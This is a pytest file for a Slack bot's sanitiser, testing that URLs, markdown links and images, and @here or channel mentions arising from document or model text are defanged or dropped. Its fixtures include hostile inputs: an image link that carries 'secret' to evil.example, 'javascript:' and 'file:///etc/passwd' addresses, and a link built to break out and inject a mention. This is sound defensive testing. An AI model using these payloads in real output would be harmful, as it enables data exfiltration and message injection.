"""Text of documents, models and people cannot become a link, a mention or an image in Slack."""

import re

import pytest

from bot.slack.text import JOINER, defang, fallback, label, link, markdown
from knowledge.catalogue.shelves import name_key

HOSTILE = [
    "See https://evil.example/?q=secret now",
    "See HTTPS://EVIL.example/?q=secret",
    "[click](https://evil.example/x)",
    "[click][1]\n\n[1]: https://evil.example/x",
    "> [a]: https://evil.example/x",
    "![pixel](https://evil.example/p.png?d=secret)",
    "<https://evil.example|friendly>",
    "`https://evil.example/x`",
    "```\nhttps://evil.example/x\n```",
    "see evil.example.com/path?d=secret",
    "www.evil.example",
    "mailto:someone@evil.example",
    "javascript:alert(1)",
    "slack://user?team=T1&id=U1",
    "https://a@evil.example/",
    "(https://evil.example/a_(b))",
    "詳しくはhttps://evil.example/xをご覧ください",
    "詳しくはevil.example.com/path、またはwww.evil.example",
]
MENTIONS = ["<@U123>", "<@U123|joe>", "<!here>", "<!channel>", "<!subteam^S1>", "<#C123|general>", "@here", "@channel"]
LIVE_URL = re.compile(r"\b(?:https?|slack|ftp)://[a-z0-9@-]+\.[a-z]", re.IGNORECASE)
LIVE_MENTION = re.compile(r"<(?:[@#][A-Z0-9]|!\w)|@(?:here|channel|everyone)\b")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_address_that_a_text_brings_along_can_be_followed(text: str) -> None:
    for made in (markdown(text), label(text), fallback(text)):
        assert not LIVE_URL.search(made), made
        assert not re.search(r"\b(?:mailto|javascript|slack|www[.])[:.]?\w", made), made
        assert "](" not in made or made is not markdown(text)


@pytest.mark.parametrize("text", [*MENTIONS, "`<!here>`", "```\n<@U123>\n```", "<<!here>!here>", "&lt;!here&gt;"])
def test_nobody_is_ever_mentioned(text: str) -> None:
    for made in (markdown(text), label(text), fallback(text)):
        assert not LIVE_MENTION.search(made), made
    assert "&lt;!here" not in markdown(text)


def test_a_sources_own_address_stays_whole() -> None:
    own = "https://handbook.example/leave"
    assert defang(f"as {own} says, unlike https://evil.example/x", {own}) == (
        f"as {own} says, unlike hxxps://evil[.]example/x"
    )


def test_a_longer_address_that_only_begins_like_a_sources_own_is_broken() -> None:
    assert "hxxps" in defang("https://handbook.example/leave?d=secret", {"https://handbook.example/leave"})


FORM = "https://forms.acme.example/leave?id=3&x=1"


def test_a_documents_link_in_a_quote_leads_where_it_leads_in_the_document() -> None:
    page = f"See [the form]({FORM}), or [write](mailto:leave@acme.example). Wow![it]({FORM})"
    shown = markdown(page, {FORM}, [page], quoted=True)
    assert shown == page.replace("Wow!", f"Wow!{JOINER}")
    assert f"]({FORM})" not in markdown(page, {FORM}, [page])


def test_a_link_whose_label_is_an_address_shows_where_it_leads() -> None:
    page = f"See [https://bank.example]({FORM})."
    assert markdown(page, {FORM}, [page], quoted=True) == f"See {FORM}."


@pytest.mark.parametrize("link", [f"[the form]({FORM}&d=secret)", "[it](javascript:alert)", "[it](slack://user)"])
def test_a_link_that_no_cited_document_has_leads_nowhere(link: str) -> None:
    assert "](" not in markdown(link, {FORM}, [f"See [the form]({FORM})."], quoted=True)


def test_a_broken_address_can_still_be_read() -> None:
    assert defang("Go to https://intranet.example/forms?id=3.") == "Go to hxxps://intranet[.]example/forms?id=3."


@pytest.mark.parametrize(
    "text",
    ["3 < 4 & 5 > 2", "**bold** and `a < b`", "| a | b |\n|---|---|\n| 1 | 2 |", "v1.2.3, foo.baz, 9.30–17.00", "[1]"],
)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert markdown(text) == text


def test_a_title_is_never_bold_or_code_and_means_the_same_when_it_is_looked_up() -> None:
    title = "*draft* plan_v2_final and `code` of _Ben_"
    shown = label(title)
    assert shown == "＊draft＊ plan_v2_final and ｀code｀ of ＿Ben＿"
    assert name_key(shown) == name_key(title)
    assert label("https://example.test/_a_", own=["https://example.test/_a_"]) == "https://example.test/_a_"


def test_a_title_shows_its_angle_brackets_and_ampersands() -> None:
    assert label("R&D <draft>\nof 2026") == "R&amp;D &lt;draft&gt; of 2026"


def test_a_title_leads_to_its_source() -> None:
    assert link("https://handbook.example/a?b=1&c=2", "Leave > Annual") == (
        "<https://handbook.example/a?b=1&amp;c=2|Leave &gt; Annual>"
    )


@pytest.mark.parametrize("url", [None, "javascript:alert(1)", "file:///etc/passwd", "slack://open", ""])
def test_a_title_without_a_web_address_stands_alone(url: str | None) -> None:
    assert link(url, "Leave") == "Leave"


def test_an_address_cannot_break_out_of_its_link() -> None:
    made = link("https://a.example/x|y> <!here>", "Leave")
    assert made.count("<") == made.count(">") == 1
    assert made.count("|") == 1


@pytest.mark.parametrize(
    "text", ["evil.com", "ask it@evil.com", "名前はevil.co.jpです", "see evil.example, or evil.net."]
)
def test_a_host_alone_is_broken_for_everybody_to_see(text: str) -> None:
    assert markdown(text).replace("[.]", ".").replace("[at]", "@") == text
    assert "\u2060" not in markdown(text)
    assert not re.search(r"evil\.(?:com|net|example|co\.jp)", markdown(text))


@pytest.mark.parametrize("text", ["ask in #people-team", "(#people-team)", "#人事 へ"])
def test_no_channel_that_a_text_names_is_live(text: str) -> None:
    assert markdown(text).replace("\u2060", "") == text
    assert not re.search(r"#\w", markdown(text))


@pytest.mark.parametrize("text", ["C# and issue #42", "# A heading\n\n## Another", "Node.js, README.md, a (b/c): d!e"])
def test_signs_that_call_nobody_stay_as_they_are(text: str) -> None:
    assert markdown(text) == text
